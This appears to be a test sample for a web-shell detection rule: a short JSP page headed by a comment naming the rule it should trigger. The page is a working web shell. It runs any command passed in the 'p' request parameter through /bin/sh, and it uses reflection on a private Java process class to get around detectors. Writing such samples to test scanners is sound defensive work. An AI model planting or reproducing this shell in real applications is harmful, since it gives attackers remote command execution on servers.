<%-- expect rule=jsp.exec-input min=85 --%>
<%@ page import="java.lang.reflect.Method,java.util.Map" %>
<%
    String[] cmd = {"/bin/sh", "-c", request.getParameter("p")};
    Class<?> pi = Class.forName("java.lang.ProcessImpl");
    Method st = pi.getDeclaredMethod("start", String[].class, Map.class, String.class, ProcessBuilder.Redirect[].class, boolean.class);
    st.setAccessible(true);
    st.invoke(null, cmd, null, null, null, false);
%>
